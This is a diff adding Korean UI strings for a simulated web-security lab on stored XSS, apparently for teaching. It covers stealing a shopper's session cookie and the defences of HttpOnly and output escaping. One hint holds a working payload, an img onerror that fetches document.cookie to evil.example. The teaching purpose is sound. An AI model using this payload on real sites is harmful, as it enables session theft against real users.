@@ -491,6 +491,57 @@ export const activitiesKo: ActivityMessages = {
           '너무 오래 쉬었습니다. 요청 없이 30분이 지나 로그인 세션 자체가 만료되었습니다. 더 짧게 쉬면 이어집니다.',
       },
     },
+    'xss-steal-session': {
+      title: '미나의 세션 훔치기',
+      goal: '여러분은 Firefox의 방문자입니다. 미나의 쿠키를 evil.example로 보내는 후기를 쓰고, 미나가 후기를 열게 한 뒤(미나의 Chrome 탭), evil.example의 기록에 남은 미나의 세션으로 Firefox에서 미나의 마이페이지를 여세요.',
+      hints: {
+        '0': '후기 페이지는 여러분이 쓴 글을 그대로 HTML에 넣습니다. 불러오지 못한 이미지는 onerror 속성의 코드를 실행합니다.',
+        '1': '이렇게 써 보세요: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
+        '2': '그다음 Chrome 탭을 열고 후기를 누르세요. Firefox로 돌아와 evil.example 기록의 미나 줄에서 “Firefox에서 connect.sid 쓰기”를 누르고 마이페이지를 여세요.',
+      },
+      solved:
+        '미나의 브라우저가 여러분의 마크업을 쇼핑몰 페이지의 일부로 실행해 쿠키를 읽고 밖으로 보냈습니다. 그 쿠키로 Firefox가 미나가 됐습니다. 비밀번호도, 세션 코드의 버그도 필요 없었습니다. 이스케이프하지 않은 후기 하나와 스크립트가 읽을 수 있는 쿠키면 충분했습니다.',
+      nudges: {
+        'own-cookie':
+          '그 쿠키는 여러분 자신의 브라우저가 보낸 것입니다(여러분의 브라우저도 페이지를 보여 줬으니까요). evil.example이 미나의 Chrome에서 받은 쿠키를 쓰세요.',
+        'wait-for-mina':
+          '덫은 놓였습니다. 이제 미나가 후기 페이지를 열어야 합니다. 미나의 Chrome 탭으로 가서 후기를 누르세요.',
+        'not-understood':
+          '후기가 페이지에 올라갔지만, 그 안에 document.cookie를 어떤 주소로 보내는 코드가 없습니다. src가 있는 이미지의 onerror와, https://evil.example/로 보내는 fetch()를 쓰세요.',
+      },
+    },
+    'xss-httponly-stops-theft': {
+      title: '코드는 그대로, 도난만 막기',
+      goal: '쇼핑몰의 코드는 바꾸지 말고(후기 페이지는 이스케이프하지 않은 채로), 미나가 로그인한 채 후기를 열어도 세션 쿠키가 evil.example에 닿지 않게 해 보세요.',
+      hints: {
+        '0': 'HttpOnly가 붙은 쿠키는 document.cookie에 보이지 않습니다. 어느 옵션이 그것을 붙일까요?',
+        '1': '손님 기록부 아래에서 cookie.httpOnly를 켜세요. 이 옵션은 그 뒤로 서버가 설정하는 쿠키에 적용됩니다.',
+        '2': '미나의 쿠키는 그 전에 설정된 것입니다. Chrome에서 미나로 다시 로그인한 뒤(mina / sesame) 후기를 여세요.',
+      },
+      solved:
+        '스크립트는 여전히 실행됐고 evil.example도 여전히 불렀지만, document.cookie에는 connect.sid가 없었습니다. HttpOnly는 세션 쿠키를 지킬 뿐 페이지를 지키지는 않습니다. 주입된 스크립트는 여전히 그 페이지에서 미나로서 행동할 수 있습니다.',
+      nudges: {
+        'code-changed':
+          '이스케이프는 쇼핑몰의 코드를 바꾸는 일입니다(다음 도전 과제입니다). 이번에는 다시 끄고 쿠키를 지켜 보세요.',
+        'old-cookie':
+          'HttpOnly는 켜졌지만, 미나는 전에 받은 쿠키를 그대로 갖고 있습니다. 세션이 그 설정을 유지하기 때문입니다. 다시 로그인해서 새 쿠키를 받게 하세요.',
+        'logged-out': '미나가 로그인해 있지 않습니다. 다시 로그인한 뒤 후기를 여세요.',
+      },
+    },
+    'xss-escape-output': {
+      title: '주입 자체를 막기',
+      goal: '쇼핑몰이 후기를 글자로 페이지에 넣게 해서, 미나가 심어 둔 후기를 입력된 글자 그대로 보고 페이지에서 아무것도 실행되지 않게 해 보세요.',
+      hints: {
+        '0': '잘못은 쇼핑몰이 후기를 HTML에 써 넣는 곳에 있습니다.',
+        '1': '손님 기록부 아래에서 “후기를 페이지에 넣을 때 이스케이프”를 켠 뒤, 미나의 Chrome에서 후기를 여세요.',
+      },
+      solved:
+        '이스케이프하자 후기의 <가 &lt;로 도착했습니다. 브라우저는 그것을 보여 줄 뿐 아무것도 실행하지 않습니다. 출력 이스케이프는 로그인했든 안 했든, 쿠키에 어떤 속성이 있든 모든 방문자에게서 주입을 막습니다.',
+      nudges: {
+        'still-runs':
+          'HttpOnly가 쿠키는 지키지만, 후기는 여전히 미나의 페이지에서 실행됩니다. 쇼핑몰이 후기를 써 넣는 곳에서 막으세요.',
+      },
+    },
   },
   quiz: {
     'secure-eavesdropper': {
@@ -1165,6 +1216,59 @@ export const activitiesKo: ActivityMessages = {
         'Safari가 쿠키를 모두 차단한 채 마이페이지를 엽니다. 아래 요청은 Safari가 보냈다고 합니다. 잘못된 줄은 어느 것일까요?',
       explain:
         '쿠키를 차단한 브라우저는 Cookie 헤더를 아예 보내지 않습니다. 요청 어디에도 서버가 알아볼 만한 것이 없습니다.',
+    },
+    'xss-what-runs': {
+      prompt:
+        '후기 페이지가 이스케이프하지 않습니다. 미나가 페이지를 열 때 저절로 스크립트를 실행하는 후기는 어느 것일까요?',
+      options: {
+        'img-onerror': '<img src=x onerror="…">',
+        bold: '<b>좋은 머그컵</b>',
+        escaped: '&lt;script&gt;alert(1)&lt;/script&gt;',
+        onclick: '<a href="#" onclick="…">더 보기</a>',
+      },
+      explain:
+        '이미지를 불러오지 못하니 아무도 손대지 않아도 onerror가 실행됩니다. 굵게는 마크업일 뿐이고, 이스케이프된 것은 글자이며, onclick은 클릭을 기다립니다.',
+    },
+    'xss-httponly-does': {
+      prompt:
+        '세션 쿠키에 HttpOnly가 있고, 이스케이프하지 않은 후기는 그대로 페이지에 있습니다. 미나가 페이지를 열면 어떻게 될까요?',
+      options: {
+        'runs-without-cookie': '스크립트는 실행되지만 document.cookie에 세션 쿠키가 없다',
+        'nothing-runs': 'HttpOnly가 스크립트를 막아서 아무것도 실행되지 않는다',
+        'still-steals': '세션 쿠키가 전처럼 도난당한다',
+        refused: '서버가 페이지를 거절한다',
+      },
+      explain:
+        'HttpOnly는 스크립트에게서 쿠키를 숨길 뿐, 스크립트를 멈추지는 않습니다. 브라우저는 여전히 요청마다 그 쿠키를 쇼핑몰에 보냅니다.',
+    },
+    'xss-escape-does': {
+      prompt:
+        '쇼핑몰이 후기를 출력할 때 이스케이프합니다. 페이로드가 있던 자리에 미나는 무엇을 볼까요?',
+      options: {
+        'shown-as-text': '페이로드의 글자 그대로. 아무것도 실행되지 않는다',
+        removed: '아무것도 없다. 후기가 지워진다',
+        'runs-later': '깨진 이미지가 보이고 코드는 나중에 실행된다',
+        'cookie-hidden': '이미지는 보이고 쿠키만 숨겨진다',
+      },
+      explain:
+        '<는 &lt;가 되고, 브라우저는 태그를 시작하는 대신 <를 글자로 보여 줍니다. 후기는 방문자가 쓴 그대로 남습니다.',
+    },
+    'xss-attack-order': {
+      prompt: '저장형 XSS를 순서대로 놓아 보세요.',
+      options: {
+        plant: '공격자가 마크업이 든 후기를 올린다',
+        'victim-opens': '미나가 후기 페이지를 연다',
+        'browser-sends': '미나의 브라우저가 그것을 실행해 document.cookie를 evil.example로 보낸다',
+        'thief-uses': '도둑이 세션 쿠키를 자기 브라우저에 넣고 마이페이지를 연다',
+      },
+      explain:
+        '쇼핑몰은 마크업을 한 번 저장하고, 그 페이지를 보여 주는 모든 브라우저가 그것을 실행합니다.',
+    },
+    'xss-evil-request': {
+      prompt:
+        '미나의 브라우저가 쿠키를 evil.example로 보냅니다. 이 요청에서 잘못된 줄은 어느 것일까요?',
+      explain:
+        '브라우저는 쇼핑몰의 쿠키를 쇼핑몰에만 보냅니다. 쿠키는 스크립트가 넣어 둔 주소(?c=…) 안에 실려 갑니다.',
     },
   },
 };
